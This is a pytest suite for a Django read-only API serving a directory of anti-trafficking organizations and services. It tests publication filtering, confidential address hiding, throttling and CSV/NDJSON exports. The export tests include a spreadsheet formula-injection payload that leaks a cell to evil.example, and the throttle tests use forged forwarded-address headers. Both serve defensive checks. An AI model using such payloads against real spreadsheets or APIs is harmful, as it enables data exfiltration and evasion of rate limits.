"""The JSON API: read-only, published only, filters shared with the pages."""

import csv
import datetime
import io
import json

import pytest
from django.core.cache import caches
from django.urls import reverse
from django.utils.http import http_date

from resources.models import ENTRY_MODELS, Organization, Region, SupportService
from resources.readmodel import changes
from tests.builders import KINDS, SECRET_ADDRESS
from tests.factories import (
    CountryFactory,
    FocusAreaFactory,
    OrganizationFactory,
    RegionFactory,
    StrategyFactory,
    SupportServiceFactory,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("world")]

LONG_AGO = datetime.datetime(2020, 5, 1, tzinfo=datetime.UTC)
TAXONOMY = ["regions", "focus-areas", "service-types", "populations", "sources"]


@pytest.fixture(autouse=True)
def fresh_throttle_counts():
    caches["limits"].clear()
    yield
    caches["limits"].clear()


def drafts_by_kind(world):
    return dict(zip(KINDS, world["drafts"], strict=True))


def list_url(kind):
    return f"/api/v1/{kind}/"


def test_api_root_lists_every_endpoint(client):
    body = client.get("/api/v1/").json()
    assert set(body) == {*KINDS, *TAXONOMY, "countries", "hsds"}
    assert body["hsds"] == "http://testserver/api/hsds/"


class TestVisibility:
    @pytest.mark.parametrize("kind", KINDS)
    def test_lists_hold_only_published_records(self, client, world, kind):
        slugs = [r["slug"] for r in client.get(list_url(kind)).json()["results"]]
        assert world["published"][kind] in slugs
        assert drafts_by_kind(world)[kind].slug not in slugs

    @pytest.mark.parametrize("kind", KINDS)
    def test_unpublished_detail_is_404(self, client, world, kind):
        assert client.get(f"{list_url(kind)}{drafts_by_kind(world)[kind].slug}/").status_code == 404

    def test_related_lists_leave_out_unpublished_records(self, client, world):
        polaris = client.get("/api/v1/organizations/polaris/").json()
        assert [s["slug"] for s in polaris["services"]] == ["helpline"]
        untoc = client.get("/api/v1/instruments/untoc/").json()
        assert [i["slug"] for i in untoc["supplemented_by"]] == ["protocol"]

    def test_an_unpublished_related_record_is_null(self, client, world):
        Organization.objects.filter(slug="unodc").update(status="draft")
        assert client.get("/api/v1/instruments/untoc/").json()["adopting_body"] is None

    def test_a_confidential_address_is_never_served(self, client, world):
        for url in (
            "/api/v1/services/helpline/",
            "/api/v1/services/",
            "/api/v1/services/export.csv",
            "/api/v1/services/export.ndjson",
        ):
            response = client.get(url)
            content = b"".join(response.streaming_content) if response.streaming else response.content
            assert SECRET_ADDRESS.encode() not in content, url


class TestShape:
    def test_related_records_are_small_objects_with_links(self, client, world):
        lead = client.get("/api/v1/strategies/asean-plan/").json()["lead_organizations"][0]
        assert set(lead) == {"slug", "name", "api_url", "page_url"}
        assert lead["api_url"] == "http://testserver/api/v1/organizations/unodc/"
        assert lead["page_url"] == "http://testserver/organizations/unodc/"
        plan = client.get("/api/v1/strategies/thai-plan/").json()
        assert plan["countries"][0]["slug"] == "TH"
        assert plan["coverage"] == "national"

    def test_entries_carry_their_citations(self, client, world):
        polaris = client.get("/api/v1/organizations/polaris/").json()
        citation = polaris["citations"][0]
        assert citation["quote"] == "Polaris is an NGO that operates a national hotline"
        assert citation["source"]["slug"] == "doc"
        assert citation["passage_url"].startswith("http://testserver/sources/doc/#citation-")

    def test_timestamps_are_iso_8601(self, client, world):
        polaris = client.get("/api/v1/organizations/polaris/").json()
        assert polaris["modified"][4] == "-" and "T" in polaris["modified"]

    def test_countries_by_iso_code_in_either_case(self, client, world):
        assert client.get("/api/v1/countries/TH/").json()["name"] == "Thailand"
        assert client.get("/api/v1/countries/th/").json()["code"] == "TH"
        assert client.get("/api/v1/countries/zz/").status_code == 404


UNSAFE = ["post", "put", "patch", "delete"]


class TestReadOnly:
    @pytest.mark.parametrize("method", UNSAFE)
    @pytest.mark.parametrize("kind", [*KINDS, *TAXONOMY])
    def test_unsafe_methods_are_refused_and_change_nothing(self, client, admin_user, world, kind, method):
        before = Organization.objects.count(), SupportService.objects.count(), Region.objects.count()
        for who in ("anonymous", "superuser"):
            if who == "superuser":
                client.force_login(admin_user)
            first = client.get(list_url(kind)).json()["results"][0]
            key = first.get("slug") or first.get("code")
            for url in (list_url(kind), f"{list_url(kind)}{key}/"):
                response = getattr(client, method)(url, data="{}", content_type="application/json")
                assert response.status_code in (401, 403, 405), (who, method, url)
        assert (
            Organization.objects.count(),
            SupportService.objects.count(),
            Region.objects.count(),
        ) == before


class TestFiltering:
    def test_filters_narrow_the_list(self, client, world):
        body = client.get("/api/v1/strategies/", {"country": "TH"}).json()
        assert [r["slug"] for r in body["results"]] == ["asean-plan", "thai-plan"]

    @pytest.mark.parametrize(
        "params,parameter",
        [
            ({"ordering": "password"}, "ordering"),
            ({"page": "0"}, "page"),
            ({"page": "abc"}, "page"),
            ({"page": "99"}, "page"),
            ({"page_size": "-1"}, "page_size"),
            ({"modified_since": "yesterday"}, "modified_since"),
            ({"modified_since": "2026-02-30"}, "modified_since"),
            ({"modified_since": "0001-01-01T00:00:00+23:00"}, "modified_since"),
            ({"focus_area": "no-such-area"}, "focus_area"),
        ],
    )
    def test_a_bad_parameter_is_a_400_naming_it(self, client, world, params, parameter):
        response = client.get("/api/v1/organizations/", params)
        assert response.status_code == 400
        assert parameter in response.json()

    @pytest.mark.parametrize(
        ("params", "status"),
        [
            ({"page": "9" * 4400}, 400),  # past the end
            ({"page_size": "9" * 4400}, 200),  # capped at 100
            ({"page": "0" * 4400 + "1"}, 200),
        ],
    )
    def test_integers_of_any_length_are_read_safely(self, client, params, status):
        response = client.get("/api/v1/organizations/", params)
        assert response.status_code == status, response.content[:200]
        if status == 400:
            assert set(response.json()) == set(params)

    def test_page_size_is_capped_at_100(self, client):
        for n in range(104):  # and the world's one
            FocusAreaFactory(slug=f"area-{n}", name=f"Area {n:03}")
        body = client.get("/api/v1/focus-areas/", {"page_size": "1000"}).json()
        assert len(body["results"]) == 100 and body["count"] == 105
        assert len(client.get("/api/v1/focus-areas/").json()["results"]) == 20

    def test_ordering_on_the_whitelist(self, client, world):
        OrganizationFactory(slug="aaa", name="AAA", founded_year=1839)
        names = [
            r["slug"] for r in client.get("/api/v1/organizations/", {"ordering": "-name"}).json()["results"]
        ]
        assert names == ["unodc", "polaris", "aaa"]
        years = client.get("/api/v1/organizations/", {"ordering": "founded_year"}).json()["results"]
        assert [r["founded_year"] for r in years] == [1839, 1997, 2002]

    def test_modified_since_for_incremental_sync(self, client, world):
        everything = client.get("/api/v1/organizations/", {"modified_since": "2000-01-01"}).json()
        assert everything["count"] == 2
        assert client.get("/api/v1/organizations/", {"modified_since": "2999-01-01"}).json()["count"] == 0
        # An unusual but valid offset, which PostgreSQL refuses as it stands, is converted to UTC.
        odd_offset = client.get("/api/v1/organizations/", {"modified_since": "0269-11-10T06:25:23-20:44"})
        assert odd_offset.status_code == 200 and odd_offset.json()["count"] == 2


class TestConditionalRequests:
    def test_etag_gives_304_until_the_data_changes(self, client, world):
        first = client.get("/api/v1/organizations/polaris/")
        etag = first["ETag"]
        assert client.get("/api/v1/organizations/polaris/", HTTP_IF_NONE_MATCH=etag).status_code == 304
        Organization.objects.filter(slug="polaris").update(summary="Changed.")
        assert client.get("/api/v1/organizations/polaris/", HTTP_IF_NONE_MATCH=etag).status_code == 200

    def test_last_modified_gives_304(self, client, world):
        for url in ("/api/v1/organizations/", "/api/v1/organizations/polaris/"):
            last_modified = client.get(url)["Last-Modified"]
            assert client.get(url, HTTP_IF_MODIFIED_SINCE=last_modified).status_code == 304


class TestPublicValidators:
    """Last-Modified says when the public data changed: never moved by a draft."""

    @pytest.fixture
    def dated(self, world):
        for model in ENTRY_MODELS:
            model.objects.update(modified=LONG_AGO)
            model.history.update(history_date=LONG_AGO)
        changes.rebuild()  # an update() passes the read model by

    @pytest.mark.parametrize("kind", KINDS)
    def test_editing_a_draft_changes_no_public_header(self, client, world, dated, kind):
        before = client.get(list_url(kind))
        draft = drafts_by_kind(world)[kind]
        draft.summary = "A staff edit nobody outside can see."
        draft.save()
        after = client.get(list_url(kind))
        assert after["Last-Modified"] == before["Last-Modified"] == http_date(LONG_AGO.timestamp())
        assert after["ETag"] == before["ETag"]

    @pytest.mark.parametrize("kind", KINDS)
    def test_unpublishing_a_record_moves_it(self, client, world, dated, kind):
        before = client.get(list_url(kind))["Last-Modified"]
        record = ENTRY_MODELS[KINDS.index(kind)].objects.get(slug=world["published"][kind])
        record.status = "archived"
        record.save()
        assert client.get(list_url(kind))["Last-Modified"] != before


class TestExports:
    def test_csv_of_a_filtered_list(self, client, world):
        elsewhere = StrategyFactory(slug="elsewhere")
        elsewhere.countries.add(CountryFactory(code="SE", region=RegionFactory(slug="northern-europe")))
        response = client.get("/api/v1/strategies/export.csv", {"country": "TH"})
        assert response.status_code == 200 and response.streaming
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert [row["slug"] for row in rows] == ["asean-plan", "thai-plan"]
        assert rows[0]["lead_organizations"] == "unodc"
        assert rows[1]["countries"] == "TH"

    @pytest.mark.parametrize(
        "name",
        ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"],
    )
    def test_csv_cells_are_never_formulas(self, client, world, name):
        OrganizationFactory(slug="hostile", name=name, website="")
        response = client.get("/api/v1/organizations/export.csv")
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        (row,) = [row for row in rows if row["slug"] == "hostile"]
        assert row["name"] == f"'{name}"
        ndjson = b"".join(client.get("/api/v1/organizations/export.ndjson").streaming_content).decode()
        assert json.dumps(name)[1:-1] in ndjson  # the JSON formats keep the value as it is

    def test_a_phone_number_stays_readable_in_csv(self, client, world):
        SupportServiceFactory(slug="intl", phone="+66 2 123 4567", sms="1-800")
        response = client.get("/api/v1/services/export.csv")
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        (row,) = [row for row in rows if row["slug"] == "intl"]
        assert (row["phone"], row["sms"]) == ("'+66 2 123 4567", "1-800")

    def test_ndjson_of_a_whole_kind(self, client, world):
        OrganizationFactory(slug="second")
        response = client.get("/api/v1/organizations/export.ndjson")
        assert response.streaming
        lines = b"".join(response.streaming_content).decode().splitlines()
        records = [json.loads(line) for line in lines]
        assert sorted(r["slug"] for r in records) == ["polaris", "second", "unodc"]
        assert records[0].keys() == client.get("/api/v1/organizations/polaris/").json().keys()

    def test_exports_refuse_bad_filters(self, client, world):
        assert client.get("/api/v1/strategies/export.csv", {"ordering": "nope"}).status_code == 400


def test_throttling_answers_429_with_retry_after(client, settings):
    settings.API_ANON_RATE = "3/minute"
    statuses = [client.get("/api/v1/focus-areas/").status_code for _ in range(4)]
    assert statuses == [200, 200, 200, 429]
    response = client.get("/api/v1/focus-areas/")
    assert int(response["Retry-After"]) > 0


def test_a_forged_forwarded_address_does_not_get_past_the_throttle(client, settings):
    settings.API_ANON_RATE = "3/minute"
    statuses = [
        client.get("/api/v1/focus-areas/", HTTP_X_FORWARDED_FOR=f"198.51.100.{n}").status_code
        for n in range(6)
    ]
    assert statuses == [200, 200, 200, 429, 429, 429]


def test_behind_a_trusted_proxy_the_throttle_counts_each_client(client, settings):
    settings.API_ANON_RATE = "1/minute"
    settings.TRUSTED_PROXIES = 1

    def get(forwarded):
        return client.get("/api/v1/focus-areas/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR=forwarded)

    assert get("203.0.113.1").status_code == 200
    assert get("198.51.100.7, 203.0.113.1").status_code == 429  # the same client, forging
    assert get("203.0.113.2").status_code == 200


def test_cors_allows_get_from_any_origin(client, world):
    response = client.get("/api/v1/organizations/", HTTP_ORIGIN="https://example.org")
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "Access-Control-Allow-Origin" not in client.get("/admin/login/", HTTP_ORIGIN="https://example.org")


class TestSchemaAndDocs:
    def test_openapi_schema(self, client):
        response = client.get("/api/v1/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
        schema = json.loads(response.content)
        assert schema["openapi"].startswith("3.")
        assert "/api/v1/organizations/{slug}/" in schema["paths"]
        parameters = {p["name"] for p in schema["paths"]["/api/v1/organizations/"]["get"]["parameters"]}
        assert {"page", "page_size", "ordering", "modified_since", "country"} <= parameters

    def test_interactive_docs_are_served_locally(self, client):
        response = client.get(reverse("api:docs"))
        assert response.status_code == 200
        html = response.content.decode()
        assert "swagger" in html.lower()
        assert "cdn" not in html and "unpkg" not in html and "jsdelivr" not in html


PARITY_CASES = [
    ("organizations", {}),
    ("organizations", {"country": "TH"}),
    ("organizations", {"focus_area": "protection", "ordering": "-name"}),
    ("organizations", {"q": "polaris"}),
    ("organizations", {"kind": "ngo", "year_min": "2000"}),
    ("instruments", {"year_min": "1999", "year_max": "2001", "ordering": "adopted_year"}),
    ("strategies", {"region": "south-eastern-asia"}),
    ("strategies", {"country": "TH", "ordering": "-start_year"}),
    ("services", {"service_type": "hotline", "population": "survivors"}),
    ("services", {"provider": "polaris"}),
]


@pytest.mark.parametrize("kind,params", PARITY_CASES)
def test_same_parameters_give_the_same_records_on_page_and_api(client, world, kind, params):
    # Enough records that the filters have something to leave out.
    for n in range(3):
        OrganizationFactory(slug=f"other-{n}", name=f"Other {n}", founded_year=1990 + n)
        StrategyFactory(slug=f"strategy-{n}", name=f"Strategy {n}", start_year=2010 + n).countries.add(
            CountryFactory(code="SE", region=RegionFactory(slug="northern-europe"))
        )
    page = client.get(f"/{kind}/", params)
    assert page.status_code == 200
    page_slugs = [entry.slug for entry in page.context["page_obj"].object_list]
    api_slugs = [record["slug"] for record in client.get(f"/api/v1/{kind}/", params).json()["results"]]
    assert page_slugs == api_slugs
    if params:
        everything = client.get(f"/api/v1/{kind}/").json()["count"]
        assert 0 < len(api_slugs) <= everything
